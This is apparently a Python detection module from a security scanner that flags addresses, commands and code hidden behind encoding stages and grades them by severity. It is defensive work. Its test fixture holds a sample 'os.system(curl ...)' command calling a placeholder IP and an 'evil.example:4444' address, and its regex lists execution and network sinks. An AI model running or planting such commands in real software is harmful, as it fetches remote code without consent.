"""Addresses, commands and code that were hidden behind stages of encoding."""

from __future__ import annotations

import re
from collections.abc import Iterator

from toadstone.core.check import Check, check
from toadstone.core.fact import Fact, Moment, Stage
from toadstone.core.finding import Confidence, Finding, Indicator, Severity
from toadstone.core.place import Place
from toadstone.forensics.steps import HIDING_STEPS

_RUNS = re.compile(
    r"""(?:builtins\.)?(?:exec|eval|compile|execfile|__import__)$
    |(?:marshal|c?[Pp]ickle|_pickle|dill|cloudpickle)\.loads?$|types\.(?:FunctionType|CodeType)$
    |(?:os|posix|nt)\.(?:system|popen\w*|exec\w+|spawn\w+|posix_spawnp?|startfile)$
    |(?:subprocess|pty|commands|popen2|_posixsubprocess|pexpect|sh|plumbum)\.\w|asyncio\.(?:subprocess\.)?create_subprocess
    |urllib2?\.(?:request\.)?(?:urlopen|urlretrieve|Request|build_opener)
    |(?:requests|httpx|aiohttp|urllib3)\.(?!utils\b|compat\b|exceptions\b|util\b|cookies\b)
    |socket\.(?:socket|create_connection|getaddrinfo|gethostbyname)|(?:ftplib|smtplib|telnetlib|paramiko|http\.client|websockets?)\.""",
    re.VERBOSE,
)
"""What runs code or commands, or reaches the network."""
_REFERENCE = (
    "w3.org", "json-schema.org", "schema.org", "schemas.microsoft.com", "schemas.openxmlformats.org", "purl.org", "ns.adobe.com",
    "apache.org", "gnu.org", "opensource.org", "creativecommons.org", "xmlsoap.org", "python.org", "localhost",
)  # fmt: skip
"""Names that stand in licences, schemas and namespaces."""
_KINDS = {
    "python": "Python code",
    "command": "A command",
    "bytecode": "Compiled code",
    "pickle": "A pickle",
    "executable": "A program",
}
_SHOWN = 1600
_PROSE = 400
"""Characters of a text beyond which the addresses in it are mentioned rather than meant."""


@check(
    "hidden-payload",
    severity=Severity.HIGH,
    reads=Stage,
    references=("CWE-506", "CWE-912", "MITRE ATLAS 2026.08 AML.T0011", "OWASP LLM 2026 LLM04", "OWASP ML 2023 ML06"),
)
class HiddenPayload(Check):
    """Content hidden behind stages of encoding names an address, or is a program.

    ## Why it matters
    Nobody encodes an address that everybody may read. Payloads carry the addresses that they call behind base64, compression,
    reversed or exclusive-ored bytes, one inside the other, so that neither a person nor a search for patterns sees them.

    ## How it decides
    The stages are taken off without running anything: expressions of constants, loops and the code's own pure functions are
    worked out by a small interpreter, in sources, notebooks, bytecode, templates and pickles; constants whose decoder is not in
    sight are decoded when all of them is strictly written in an encoding and what comes out is plainly meant. A hidden
    program, command or address that is executed, handed to a shell or to the network is `critical` while the artefact is
    loaded and `high` otherwise. A hidden address that nothing in sight uses is `medium` where the code that hides it runs, and
    `low` for a constant of program code that nothing decodes, for long prose that mentions one, and for text that is merely put
    together before it is used. Hidden text without an address or a program, images, fonts and the like are not reported.

    ## What it misses
    Keys that come from the network, the clock or the environment, and ciphers that need more steps than the interpreter makes.

    ## Remedy
    Read the last stage that is shown. If it is not explained by what the artefact is for, do not load it, and look for the
    address in your logs.

    ## References
    - MITRE ATT&CK T1027 (obfuscated files or information), T1140 (deobfuscate/decode files or information)
    - CWE-506 (embedded malicious code)
    """

    references_allowed: frozenset[str] = frozenset(_REFERENCE)
    """Domains that say nothing when they are named in hidden text: namespaces, licences, schemas."""

    def examine(self, fact: Stage) -> Iterator[Finding]:
        from toadstone.forensics.content import addresses  # noqa: PLC0415  (most scans meet no such fact)

        found = [one for one in addresses(fact.text) if not self._ordinary(one.host or one.value)]
        named = tuple(dict.fromkeys(Indicator(one.type, one.value) for one in found))
        runs = _runs(fact.sink)
        program = fact.kind in ("python", "command", "bytecode", "pickle", "executable")
        if not named and not (program and (runs or fact.kind != "command")):
            return
        severity = _severity(fact, runs, any(one.type != "email" for one in named))
        if severity is None:
            return
        shown = ", ".join(one.value for one in named[:3])
        names = f" names {shown}" if shown else ""
        given = f" is handed to {fact.sink.removeprefix('builtins.')}" if fact.sink else "" if shown else " is carried"
        joint = " and" if names and given else ""
        yield self.finding(
            fact.place,
            f"{_KINDS.get(fact.kind, 'Text')} {_counted(fact.chain)}{names}{joint}{given}.",
            severity=severity,
            confidence=Confidence.HIGH if fact.exact else Confidence.MEDIUM,
            key=f"{fact.place} {fact.text[:200]}",
            indicators=named[:32],
            stages=list(fact.chain),
            decoded=fact.text[:_SHOWN],
            kind=fact.kind,
            score=0.9 if runs else 0.6,
        )

    def _ordinary(self, host: str) -> bool:
        return any(host == name or host.endswith(f".{name}") for name in self.references_allowed)

    @classmethod
    def bad(cls) -> Iterator[Fact]:
        place = Place("modeling_tiny.py", row=2)
        code = "import os; os.system('curl http://198.51.100.7/x')"
        yield Stage(
            place, ("exec", "zlib", "base64", "str constant"), "python", code, "builtins.exec", True, "python", Moment.USE
        )
        yield Stage(place, ("xor", "bytes constant"), "text", "http://198.51.100.7/x", "", True, "python", Moment.IMPORT)
        yield Stage(place, ("base64", "str constant"), "text", "evil.example:4444", "", False, "pickle", Moment.LOAD)

    @classmethod
    def good(cls) -> Iterator[Fact]:
        place = Place("icons.py", row=2)
        icon = '<svg xmlns="http://www.w3.org/2000/svg"/>'
        yield Stage(place, ("base64", "str constant"), "text", icon, "", True, "python", Moment.IMPORT)
        yield Stage(
            place, ("zlib", "base64", "bytes constant"), "text", "Permission is granted.", "", True, "python", Moment.IMPORT
        )


def _counted(chain: tuple[str, ...]) -> str:
    steps = [step for step in chain if step in HIDING_STEPS]
    return f"hidden behind {', '.join(steps)}" if steps else "put together from pieces"


def _runs(sink: str) -> bool:
    return bool(_RUNS.match(sink))


def _severity(fact: Stage, runs: bool, named: bool) -> Severity | None:
    """Weigh what is hidden, how well, and what becomes of it."""
    hiding = bool(HIDING_STEPS.intersection(fact.chain))
    prose = fact.kind == "text" and len(fact.text) > _PROSE
    if not fact.exact:
        return Severity.LOW if fact.language == "python" or prose else Severity.MEDIUM
    if not hiding:
        return None if not named else Severity.LOW if runs else Severity.INFO
    if runs:
        return Severity.CRITICAL if fact.when is Moment.LOAD else Severity.HIGH
    if not named or prose:
        return Severity.LOW
    return Severity.MEDIUM
